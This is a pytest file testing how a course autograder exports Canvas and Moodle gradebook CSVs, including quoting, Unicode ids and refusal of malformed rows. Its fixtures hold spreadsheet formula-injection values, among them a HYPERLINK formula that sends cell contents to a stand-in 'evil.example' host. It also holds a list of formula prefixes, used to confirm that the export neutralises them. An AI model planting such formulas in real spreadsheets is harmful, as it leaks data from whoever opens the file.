"""The Canvas and Moodle grade files (autograder/lms_export.py), read back with the csv module."""

from __future__ import annotations

import csv

import pytest
from conftest import REPO, load_by_path
from linear_checks.exercises import Exercise

lms = load_by_path("course_lms_export_for_tests", REPO / "autograder" / "lms_export.py")

# The LMS files follow whatever exercise table they are given: these tests use one of their own.
EXERCISES = tuple(Exercise(number, f"ex{number}", f"ex{number}.py", title, points, ())
                  for number, (title, points) in enumerate([("Manual linear layer", 4), ("Parameter counting", 2),
                                                            ("Initialization", 3), ("Weights, seen", 3),
                                                            ("Low rank", 3), ("Backward pass", 4)], start=1))

KEYS = [e.key for e in EXERCISES]
MAX = {e.key: e.points for e in EXERCISES}
FORMULA = ("=", "+", "-", "@", "\t", "\r")
CANVAS_START = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
TITLES = [f"Linear layers: Exercise {e.number} - {e.title}" for e in EXERCISES]


def student(sid, first, last, email, points):
    points = dict(zip(KEYS, points))
    return {"student_id": sid, "first_name": first, "last_name": last, "email": email,
            "points": points, "total": sum(points.values())}


def class_rows(with_missing_email=True):
    rows = [
        student("ann01", 'Ann "Annie"', "Smith, Jr.", "ann@example.org", [4, 2, 3, 3, 3, 4]),
        student("bob02", '=HYPERLINK("http://evil.example/?x="&A1)', "+SUM(1)", "bob@example.org",
                [2.5, 1, 0, 3, 1.5, 2]),
        student("dan04", "José", "Ñúñez", "dan@example.org", [0, 0, 0, 0, 0, 0]),
    ]
    if with_missing_email:  # no class list: last_name is the id, no first name, no email
        rows.insert(2, student("carol03", "", "carol03", "", [4, 0, 3, 0, 3, 0]))
    return rows


def read(path):
    raw = path.read_bytes()
    raw.decode("utf-8")  # UTF-8, or this raises
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_no_formula(lines):
    for line in lines:
        for cell in line:
            assert not cell.startswith(FORMULA), cell


def assert_points(points_cells, total):
    values = [float(c) for c in points_cells]
    assert all(0 <= v <= MAX[k] for k, v in zip(KEYS, values))
    assert sum(values) == pytest.approx(total)


# -- Canvas --------------------------------------------------------------------------------
def test_canvas_file_follows_the_gradebook_import_format(tmp_path):
    rows = class_rows()
    lines = read(lms.write_canvas(rows, EXERCISES, tmp_path / "canvas.csv"))

    assert lines[0] == CANVAS_START + TITLES
    assert lines[1] == ["Points Possible", "", "", "", ""] + [str(e.points) for e in EXERCISES]
    body = lines[2:]
    assert len(body) == len(rows)
    assert all(len(line) == len(lines[0]) for line in lines)
    for row, line in zip(rows, body):
        name, canvas_id, sis_user, sis_login, section, *points = line
        assert (canvas_id, sis_user, sis_login, section) == ("", "", row["student_id"], "")
        assert name
        assert_points(points, row["total"])
    assert_no_formula(lines)


def test_canvas_names_survive_commas_quotes_and_accents(tmp_path):
    path = lms.write_canvas(class_rows(), EXERCISES, tmp_path / "canvas.csv")
    names = [line[0] for line in read(path)[2:]]
    assert names[0] == 'Smith, Jr., Ann "Annie"'
    assert names[2] == "carol03"  # no class list: the id (the last name)
    assert names[3] == "Ñúñez, José"
    assert '"Smith, Jr., Ann ""Annie"""' in path.read_text(encoding="utf-8")  # quoted, quotes doubled


def test_canvas_neutralises_a_hostile_name(tmp_path):
    line = read(lms.write_canvas(class_rows(), EXERCISES, tmp_path / "canvas.csv"))[3]
    assert line[0] == "'+SUM(1), '=HYPERLINK(\"http://evil.example/?x=\"&A1)"
    assert line[3] == "bob02"
    assert line[5:] == ["2.5", "1", "0", "3", "1.5", "2"]  # plain numbers, no "2.0"


def test_canvas_never_reads_a_student_as_the_points_row(tmp_path):
    rows = [student("eve05", "Points Possible", "Eve", "", [1, 1, 1, 1, 1, 1])]
    lines = read(lms.write_canvas(rows, EXERCISES, tmp_path / "canvas.csv"))
    assert [line[0] for line in lines if "Points Possible" in line[0]] == ["Points Possible"]
    assert lines[2][0] == "eve05"


def test_canvas_can_match_on_sis_user_id(tmp_path):
    path = lms.write_canvas(class_rows(), EXERCISES, tmp_path / "canvas.csv", id_column="SIS User ID")
    assert [line[2:4] for line in read(path)[2:]] == [[r["student_id"], ""] for r in class_rows()]
    with pytest.raises(ValueError):
        lms.write_canvas(class_rows(), EXERCISES, tmp_path / "x.csv", id_column="Email")


def test_canvas_names_and_points_row_follow_the_arguments(tmp_path):
    path = lms.write_canvas([], EXERCISES, tmp_path / "canvas.csv", assignment="Lab 3")
    lines = read(path)
    assert lines[0][5:] == [f"Lab 3: Exercise {e.number} - {e.title}" for e in EXERCISES]
    assert len(lines) == 2


# -- Moodle --------------------------------------------------------------------------------
def test_moodle_uses_email_when_every_student_has_one(tmp_path):
    rows = class_rows(with_missing_email=False)
    path = tmp_path / "moodle.csv"
    assert lms.write_moodle(rows, EXERCISES, path) == "Email address"
    lines = read(path)
    assert lines[0] == ["Email address", "First name", "Last name"] + TITLES
    assert len(lines) == 1 + len(rows)  # no maximum-points row: Moodle would read it as a student
    for row, line in zip(rows, lines[1:]):
        assert line[0] == row["email"]
        assert_points(line[3:], row["total"])
    assert lines[1][1:3] == ['Ann "Annie"', "Smith, Jr."]
    assert lines[2][1:3] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+SUM(1)"]
    assert_no_formula(lines)


def test_moodle_falls_back_to_username_for_everyone(tmp_path):
    rows = class_rows(with_missing_email=True)
    path = tmp_path / "moodle.csv"
    assert lms.write_moodle(rows, EXERCISES, path) == "Username"
    lines = read(path)
    assert lines[0][:3] == ["Username", "First name", "Last name"]
    assert [line[0] for line in lines[1:]] == [r["student_id"] for r in rows]  # never a mix, never empty
    for row, line in zip(rows, lines[1:]):
        assert_points(line[3:], row["total"])
    assert lines[3][1:] == ["", "carol03", "4", "0", "3", "0", "3", "0"]
    assert_no_formula(lines)


def test_moodle_treats_a_hostile_email_as_unknown(tmp_path):
    rows = class_rows(with_missing_email=False)
    rows[0]["email"] = "=1+1@example.org"
    assert lms.write_moodle(rows, EXERCISES, tmp_path / "moodle.csv") == "Username"
    assert_no_formula(read(tmp_path / "moodle.csv"))


# -- values and refusals -------------------------------------------------------------------
def test_numbers_are_plain():
    assert [lms.number(v) for v in (4, 4.0, 2.50, 0, -0.0, 1 / 3, 12)] == ["4", "4", "2.5", "0", "0", "0.3333", "12"]
    for bad in (float("nan"), float("inf"), True):
        with pytest.raises(ValueError):
            lms.number(bad)


def test_text_is_one_neutralised_line():
    assert lms.text("  @cmd\t") == "'@cmd"
    assert lms.text("\t=1+1") == "'=1+1"
    assert lms.text("-2") == "'-2"
    assert lms.text("Ann\r\nSmith") == "Ann Smith"
    assert lms.text("O'Neil") == "O'Neil"


@pytest.mark.parametrize("change, message", [
    (lambda r: r["points"].update(ex1=5), "which has 4"),
    (lambda r: r["points"].update(ex1=-1), "which has 4"),
    (lambda r: r.update(total=r["total"] + 1), "not the sum"),
    (lambda r: r["points"].pop("ex6"), "missing exercises"),
    (lambda r: r["points"].update(extra=1), "unknown exercises"),
    (lambda r: r.update(student_id="=cmd"), "student id"),
    (lambda r: r.update(student_id=""), "student id"),
])
def test_wrong_rows_are_refused(tmp_path, change, message):
    rows = class_rows()
    change(rows[0])
    for write in (lms.write_canvas, lms.write_moodle):
        with pytest.raises(ValueError, match=message):
            write(rows, EXERCISES, tmp_path / "out.csv")


def test_a_repeated_student_is_refused(tmp_path):
    rows = class_rows()
    rows[1]["student_id"] = rows[0]["student_id"]
    with pytest.raises(ValueError, match="twice"):
        lms.write_moodle(rows, EXERCISES, tmp_path / "out.csv")


# -- input from course.py's export ---------------------------------------------------------


def test_ids_of_any_script_are_written_and_ids_equal_but_for_case_are_refused(tmp_path):
    """Zoë and a full-width Ｋｉｍ are written as they are; Casey and casey (one student to an LMS that matches ids
    without case) are refused, as is Zoë beside Ｚｏë (the same after NFKC)."""
    rows = [student("Zoë", "", "Zoë", "", [4, 2, 3, 3, 3, 4]), student("Ｋｉｍ", "", "Ｋｉｍ", "", [0] * 6)]
    lines = read(lms.write_canvas(rows, EXERCISES, tmp_path / "canvas.csv"))
    assert [line[3] for line in lines[2:]] == ["Zoë", "Ｋｉｍ"]
    assert lms.write_moodle(rows, EXERCISES, tmp_path / "moodle.csv") == "Username"
    assert [line[0] for line in read(tmp_path / "moodle.csv")[1:]] == ["Zoë", "Ｋｉｍ"]
    for twins in (("Casey", "casey"), ("Zoë", "Ｚｏë")):
        rows = [student(sid, "", sid, "", [0] * 6) for sid in twins]
        for write in (lms.write_canvas, lms.write_moodle):
            with pytest.raises(ValueError, match=f"students {twins[0]} and {twins[1]} appear twice"):
                write(rows, EXERCISES, tmp_path / "out.csv")
